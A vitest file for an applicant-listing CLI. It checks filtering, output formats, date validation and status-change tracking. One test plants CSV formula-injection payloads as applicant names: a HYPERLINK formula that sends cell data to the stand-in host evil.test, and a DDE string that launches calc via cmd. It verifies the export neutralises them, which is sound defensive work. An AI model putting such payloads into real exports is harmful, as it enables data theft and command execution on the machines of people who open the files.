import { apply } from '@boardwalk/api/test/form'
import { type TestCompany, useServer } from '@boardwalk/api/test/harness'
import { signedInUser } from '@boardwalk/api/test/user'
import { environmentFor } from '@boardwalk/test-server/vitest/program'
import { beforeAll, describe, expect, test } from 'vitest'
import { runCommand } from '../test/command.ts'

/* `boardwalk candidates list` against the real server. */

const server = useServer()
let company: TestCompany
/** In the order in which they applied: two to A/1, then one to B. */
let applied: { id: string; date: string }[]

beforeAll(async () => {
  company = await server.company()
  applied = []
  for (const [job, firstName, message] of [
    ['A/1', 'Salma', 'Bonjour,\n« je postule »; "oui"'],
    ['A/1', 'أمينة', ''],
    ['B', 'Zoë 🦊', ''],
  ] as const) {
    const { body } = await company.call('PUT', `/job/${encodeURIComponent(job)}`, { job: { title: job } })
    applied.push((await apply(body.jobUrl, { firstName, message })).body)
  }
})

const list = (...args: string[]) =>
  runCommand(['candidates', 'list', ...args], { env: environmentFor(server, company) })
const listIds = async (...args: string[]) =>
  JSON.parse((await list('-o', 'json', ...args)).stdout).candidates.map(({ id }: { id: string }) => id)

describe('candidates list', () => {
  test('gives the candidates of all jobs or of one, in the order of their dates, between the dates that are given', async () => {
    const [salma, amina, zoe] = applied
    expect(await listIds()).toEqual([salma?.id, amina?.id, zoe?.id])
    expect(await listIds('A/1')).toEqual([salma?.id, amina?.id])
    expect(await listIds('--limit', '2')).toEqual([salma?.id, amina?.id])
    // --since excludes its instant, --to includes its own.
    expect(await listIds('--since', salma?.date ?? '')).toEqual([amina?.id, zoe?.id])
    expect(await listIds('--since', salma?.date ?? '', '--to', amina?.date ?? '')).toEqual([amina?.id])
  })

  test('a table has four columns, CSV and NDJSON have all fields', async () => {
    const lines = (await list()).stdout.split('\n')
    expect(lines[0]).toMatch(/^DATE +NAME +EMAIL +JOB$/)
    expect(lines[2]).toMatch(new RegExp(`^${applied[1]?.date} +أمينة Bennani +salma.bennani@example.com +A/1$`))
    const { stdout: csv } = await list('A/1', '-o', 'csv')
    expect(csv).toMatch(
      /^id,date,status,offerId,firstName,lastName,email,phone,linkedinUrl,cv,message,companyId,jobBoardId,jobId,jobTitle,statusChangedBy,statusChangedAt,confirmation,erasedAt,changedAt,answers\n/,
    )
    expect(csv).toContain('"Bonjour,\n« je postule »; ""oui"""')
    const rows = (await list('-o', 'ndjson')).stdout.trim().split('\n')
    expect(rows.map((row) => JSON.parse(row).firstName)).toEqual(['Salma', 'أمينة', 'Zoë 🦊'])
  })

  test('CSV holds no formula that an applicant wrote; NDJSON holds every text as it was written', {
    tags: ['formulas'],
  }, async () => {
    const { jobUrl } = (await company.call('PUT', '/job/csv', { job: { title: 'csv' } })).body
    const firstName = '=HYPERLINK("http://evil.test/?"&B2;"open")'
    const lastName = "@SUM(1+1)*cmd|' /C calc'!A0"
    await apply(jobUrl, { firstName, lastName, phone: '+212 600 000 000', message: 'Bonjour;=1+1' })
    const safe = (await list('csv', '-o', 'csv')).stdout
    expect(safe).toContain(`,"'=HYPERLINK(""http://evil.test/?""&B2;""open"")",'${lastName},`)
    expect(safe).toContain(',+212 600 000 000,')
    expect(safe).toContain(`,"Bonjour;'=1+1",`)
    const written = JSON.parse((await list('csv', '-o', 'ndjson')).stdout)
    expect(written).toMatchObject({ firstName, lastName, phone: '+212 600 000 000', message: 'Bonjour;=1+1' })
  })

  test('refuses a wrong date with 2, and an unknown job with 1', async () => {
    const wrong = await list('--since', '2026-02-30')
    expect(wrong).toMatchObject({ code: 2, stderr: expect.stringContaining('ISO 8601 expected') })
    const job = await list('nope', '-o', 'json')
    expect(job).toMatchObject({ code: 1, stdout: expect.stringContaining('nope is not associated with any job') })
  })

  test('--changed-since gives who has another status or is erased, and the date after which the next changes are; a list says who is erased', async () => {
    const { client } = await signedInUser(server, company)
    const [salma, amina] = applied
    await client.application.setStatus.mutate({ id: salma?.id ?? '', status: 'HIRED' })
    await client.application.erase.mutate({ id: amina?.id ?? '' })
    const table = await list('--changed-since', '2026-01-01')
    const rows = table.stdout.split('\n').map((line) => line.split(/ {2,}/))
    expect(rows.slice(0, 3)).toEqual([
      ['ID', 'STATUS', 'NAME', 'JOB'],
      [salma?.id, 'HIRED', 'Salma Bennani', 'A/1'],
      [amina?.id, 'erased', 'A/1'],
    ])
    expect((await list()).stdout).toContain(`\n${amina?.date}  (erased)`)
    const [, next = ''] = /^For the next changes, give --changed-since (\S+)\n$/.exec(table.stderr) ?? []
    const { candidates, changedThrough } = JSON.parse((await list('--changed-since', next, '-o', 'json')).stdout)
    expect(candidates.map(({ id }: { id: string }) => id)).toEqual([salma?.id, amina?.id])
    expect(changedThrough >= next).toBe(true)
    expect((await list('--changed-since', '2026-01-01', '--since', '2026-01-01')).code).toBe(2)
    expect((await list('A/1', '--changed-since', '2026-01-01')).code).toBe(2)
  })
})
